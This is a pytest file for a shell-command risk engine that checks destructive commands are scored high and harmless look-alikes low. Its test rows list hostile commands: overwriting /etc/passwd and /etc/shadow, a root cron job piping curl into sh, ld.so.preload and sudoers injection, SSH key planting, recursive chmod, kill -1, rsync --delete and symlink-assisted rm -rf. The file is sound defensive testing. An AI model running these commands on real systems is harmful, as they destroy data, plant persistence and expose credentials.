"""Destruction without rm: redirections, truncate, cp/mv/install/tee/dd into system and persistence locations,
recursive permission changes, kill -1, rsync --delete. Attack rows ("min") and look-alikes ("max")."""

from __future__ import annotations

import pytest

from vgshell.risk.engine import assess
from vgshell.risk.model import Level

CWD = "/home/dev/project"
HOME = "/home/dev"
C, H, M, L = Level.CRITICAL, Level.HIGH, Level.MEDIUM, Level.LOW

ROWS = [
    ("> /etc/passwd", H, "min"),
    (": > /etc/shadow", H, "min"),
    ("truncate -s 0 /etc/passwd", H, "min"),
    ("cp /dev/null /etc/hosts", H, "min"),
    ("echo '* * * * * root curl x.io|sh' | tee /etc/cron.d/job", H, "min"),
    ("echo /tmp/x.so | sudo tee /etc/ld.so.preload", H, "min"),
    ("dd if=/dev/zero of=/etc/passwd", H, "min"),
    ("cp evil /etc/sudoers.d/x", H, "min"),
    ("mv x.service /etc/systemd/system/", H, "min"),
    ("install -m 644 x /etc/cron.d/y", H, "min"),
    ("cp key.pub ~/.ssh/authorized_keys", H, "min"),
    ("ln -sf /tmp/evil.so /etc/ld.so.preload", H, "min"),
    ("cp myrc ~/.bashrc", M, "min"),
    ("chmod -R 000 ~", H, "min"),
    ("chmod -R 777 /etc", H, "min"),
    ("chown -R nobody /home/dev", H, "min"),
    ("kill -9 -1", H, "min"),
    ("kill -- -1", H, "min"),
    ("rsync -a --delete empty/ ~/", C, "min"),
    ("rsync -a --delete empty/ /etc/", C, "min"),
    # symlinks made earlier on the line are followed
    ("ln -s ~ x; rm -rf x/", C, "min"),
    ("ln -s / r && rm -rf r/*", C, "min"),
    ("ln -sf /etc e; rm -rf e/", C, "min"),
    ("ln -s ~/.ssh k; cat k/id_rsa", H, "min"),
    ("ln -s ~ x; rm x", L, "max"),
    ("ln -s ../shared shared && ls shared/", L, "max"),
    # look-alikes
    ("cp .env.example .env", L, "max"),
    ("cp config.sample.yaml config.yaml", L, "max"),
    ("truncate -s 0 app.log", L, "max"),
    ("> build/out.log", L, "max"),
    ("echo done | tee build/status.txt", L, "max"),
    ("dd if=/dev/zero of=disk.img bs=1M count=10", L, "max"),
    ("chmod -R 755 scripts", L, "max"),
    ("kill -9 1234", L, "max"),
    ("rsync -a --delete src/ backup/", M, "max"),
    ("cp /etc/hosts backup/hosts", L, "max"),
]


@pytest.mark.parametrize(("command", "level", "bound"), ROWS)
def test_destruction_without_rm(command: str, level: Level, bound: str) -> None:
    a = assess(command, cwd=CWD, home=HOME)
    found = [(f.rule, f.match) for f in a.findings]
    if bound == "min":
        assert a.risk >= level, found
    else:
        assert a.risk <= level, found
